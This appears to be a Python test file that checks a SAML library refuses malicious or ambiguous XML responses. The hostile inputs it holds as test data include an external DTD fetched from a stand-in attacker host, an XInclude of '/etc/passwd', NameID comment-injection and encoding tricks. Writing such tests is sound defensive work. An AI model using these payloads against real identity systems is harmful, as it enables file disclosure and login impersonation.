"""XML documents that two parsers could read differently, and documents that are too large."""

from __future__ import annotations

import base64

import pytest
from lxml import etree

from manifest_auth.protocols import saml
from tests.protocols.saml.test_wrapping import A, Element, P, part
from tests.protocols.saml.verdicts import refuse, replaced, response, verdict
from tests.support.matrix import matrix
from tests.support.rules import rule
from tests.support.saml_idp import ASSERTION, PROTOCOL, decode, encode
from tests.support.saml_signing import DS

DOCTYPE = '<!DOCTYPE a [<!ENTITY who "root@acme.example">]>'
NAME = "alice@acme.example</saml2:NameID>"


def in_extensions(xml: str, sign: str = "assertion") -> str:
    """A response with additional content in its unsigned envelope."""
    return replaced(
        response(sign=sign), "<saml2p:Status>", f"<saml2p:Extensions>{xml}</saml2p:Extensions><saml2p:Status>"
    )


def test_extensions_that_do_no_harm() -> None:
    assert verdict(in_extensions('<x xmlns="urn:other">text</x>'))


ROOT = "<saml2p:Response "
EXTERNAL = '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">'


@rule("SAML-PARSER", "SAML-TEXT")
@matrix(
    ("old", "new", "reason"),
    [
        (ROOT, DOCTYPE + ROOT, "DOCTYPE"),
        (ROOT, EXTERNAL + ROOT, "DOCTYPE"),
        (ROOT, "<?xml-stylesheet href='a.xsl'?>" + ROOT, "processing instruction"),
        (ROOT, "<!-- x -->" + ROOT, "comment"),
        ("</saml2p:Response>", "</saml2p:Response><!-- x -->", "comment"),
        (NAME, "alice@acme.example<!-- x -->.attacker.example</saml2:NameID>", "comment"),
        (NAME, "<![CDATA[alice@acme.example]]></saml2:NameID>", "CDATA"),
        (NAME, "alice<?x y?>@acme.example</saml2:NameID>", "processing instruction"),
        ("<ds:DigestValue>", "<ds:DigestValue><!-- x -->", "comment"),
        (NAME, "&who;</saml2:NameID>", "not well-formed"),
        (NAME, "alice\x00@acme.example</saml2:NameID>", "not well-formed"),
        (NAME, "alice&#0;@acme.example</saml2:NameID>", "not well-formed"),
        ("</saml2p:Response>", "</saml2p:Response><a/>", "not well-formed"),
        ("</saml2p:Response>", "", "not well-formed"),
        (' Version="2.0"', ' Version="2.0" Version="2.0"', "not well-formed"),
    ],
)
def test_anything_but_elements_and_text(old: str, new: str, reason: str) -> None:
    refuse(replaced(response(), old, new), reason)


@matrix("content", [b"", b"no xml", b'{"saml": "json"}', b"<"])
def test_an_invalid_xml(content: bytes) -> None:
    refuse(encode(content), "not well-formed")


@rule("SAML-CANONICAL")
@matrix("namespace", ["http://www.w3.org/2001/XInclude", "http://www.w3.org/1999/XSL/Transform"])
def test_namespaces_that_make_processors_work(namespace: str) -> None:
    refuse(in_extensions(f'<i:include xmlns:i="{namespace}" href="/etc/passwd"/>'), "^namespace .http")


@matrix("content", [b"\xff\xfe<\x00a\x00/\x00>\x00", b"<a>\xe9</a>", b"<a>\xed\xa0\x80</a>", b"<a>\xc0\xbc</a>"])
def test_bytes_that_are_not_utf_8(content: bytes) -> None:
    refuse(encode(content), "^not UTF-8$")


@rule("SAML-PARSER")
@matrix("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-7", "cp037", "iso-8859-1"])
def test_a_doctype_hidden_by_an_encoding(encoding: str) -> None:
    document = decode(response()).decode().split("?>", 1)[1]
    hidden = f'<?xml version="1.0" encoding="{encoding}"?>{DOCTYPE}<a name="é">&who;</a>{document}'
    refuse(encode(hidden.encode(encoding)), "not UTF-8|an encoding other|not well-formed|DOCTYPE")


@rule("SAML-PARSER")
@matrix("encoding", ["UTF-7", "iso-8859-1", "utf-16", "us-ascii", "windows-1252", ""])
def test_utf_8_that_claims_to_be_something_else(encoding: str) -> None:
    refuse(replaced(response(), "encoding='UTF-8'", f"encoding='{encoding}'"), "an encoding other than UTF-8")
    refuse(replaced(response(), "encoding='UTF-8'", f'encoding = "{encoding}"'), "an encoding other than UTF-8")


def test_utf_8_by_any_case_or_unsaid() -> None:
    assert verdict(replaced(response(), "encoding='UTF-8'", "encoding='utf-8'"))
    assert verdict(replaced(response(), " encoding='UTF-8'", ""))
    assert verdict(encode(decode(response()).split(b"?>", 1)[1].lstrip()))


@rule("SAML-CANONICAL")
@matrix(
    ("xml", "reason"),
    [
        ('<x xmlns="relative"/>', "is relative"),
        ('<a:x xmlns:a="../relative"/>', "is relative"),
        ('<a:x xmlns:a="1:x"/>', "not well-formed"),
        ('<a:x xmlns:a="urn:with space"/>', "not well-formed"),
        (f'<a:x xmlns:a="urn:{"x" * 300}"/>', "too long"),
        (f'<ds:x xmlns:ds="urn:other"><y xmlns="{DS}"/></ds:x>', "two meanings|bound to a different namespace"),
        ('<saml2p:x xmlns:saml2p="urn:other"/>', "two meanings"),
        ('<saml:x xmlns:saml="urn:other"/>', "bound to a different namespace"),
        ('<samlp:x xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"/>', "bound to a different namespace"),
        (f'<a:x xmlns:a="urn:other"><a:y xmlns:a="{ASSERTION}"/></a:x>', "two meanings"),
        (f'<a:x xmlns:a="{PROTOCOL}"><a:y xmlns:a="{ASSERTION}"/></a:x>', "two meanings"),
    ],
)
def test_namespaces_that_make_canonical_forms_differ(xml: str, reason: str) -> None:
    refuse(in_extensions(xml), reason)


def test_prefixes_can_be_used_again_for_what_means_nothing_here() -> None:
    assert verdict(in_extensions('<a:x xmlns:a="urn:one"><a:y xmlns:a="urn:two"/></a:x>'))


@rule("SAML-TEXT")
def test_text_in_which_elements_stand() -> None:
    def edit(tree: Element) -> None:
        name_id = part(tree, f".//{A}NameID")
        name_id.text = "root@acme.example"
        etree.SubElement(name_id, "{urn:other}x").tail = ".attacker.example"

    refuse(response(before=edit), "NameID. contains more than text")
    refuse(response(before=edit, sign="response"), "NameID. contains more than text")


@rule("SAML-SIZE")
@matrix(
    "text",
    [
        base64.b64encode(b"<a/>").decode().rstrip("="),
        base64.b64encode(b"<a/>").decode() + "=",
        " " + encode(b"<a/>"),
        encode(b"<a/>") + "\t",
        encode(b"<a/>").replace("P", "P "),
        encode(b"<a/>") + "\x00",
        encode(b"<a/>" * 20).replace("+", "-").replace("/", "_") + "-",
        "PGEvPg==PGEvPg==",
        "é",
        "%3D",
    ],
)
def test_what_is_not_base64(text: str) -> None:
    with pytest.raises(saml.SamlRefused, match="not base64"):
        saml.read_response(text)


def test_the_root_is_a_response() -> None:
    for xml in (f'<a:Assertion xmlns:a="{ASSERTION}"/>', f'<p:AuthnRequest xmlns:p="{PROTOCOL}"/>', "<Response/>"):
        with pytest.raises(saml.SamlRefused, match=r"not a SAML 2[.]0 response"):
            saml.read_response(encode(xml.encode()))


@matrix("name", ["Other", "Response", "Status"])
def test_children_that_a_response_has_not(name: str) -> None:
    def edit(tree: Element) -> None:
        part(tree, f"{P}Status").addnext(etree.Element(f"{P}{name}"))

    refuse(response(after=edit), f"{name}")


def test_children_that_an_assertion_has_not() -> None:
    def edit(tree: Element) -> None:
        etree.SubElement(part(tree, f"{A}Assertion"), "{urn:other}Statement")

    refuse(response(before=edit), "Statement. in .Assertion")


@matrix(
    ("xml", "reason"),
    [
        ("<a/>" * 6_000, "too many elements"),
        ("<a>" * 40 + "</a>" * 40, "nested too deeply"),
        ("<a " + " ".join(f'a{number}=""' for number in range(41)) + "/>", "too many attributes"),
        ("<a " + " ".join(f'xmlns:a{number}="u:1"' for number in range(25)) + "/>", "too many namespace declarations"),
        ('<a xmlns:x="u:1" xmlns:y="u:1" xmlns:z="u:1"/>' * 2_700, "too many namespace declarations"),
        ("".join(f'<a xmlns:a{number}="u:1"/>' for number in range(100)), "too many different namespace declarations"),
    ],
)
def test_limits(xml: str, reason: str) -> None:
    refuse(in_extensions(xml), f"^{reason}$")


@rule("SAML-SIZE")
def test_documents_that_are_too_large() -> None:
    spare = 256 * 1024 - len(decode(response()))
    assert verdict(in_extensions(f"<x>{'y' * (spare - 200)}</x>"))
    refuse(in_extensions(f"<x>{'y' * spare}</x>"), "larger than 262144 bytes")
    with pytest.raises(saml.SamlRefused, match="longer than 256 KiB"):
        saml.read_response("A" * 400_000)


def test_many_groups_are_no_bomb() -> None:
    groups = [f"group-{number}" for number in range(1200)]
    for sign in ("assertion", "both"):
        assert len(verdict(response(attributes={"groups": groups}, sign=sign)).attributes["groups"]) == 1200
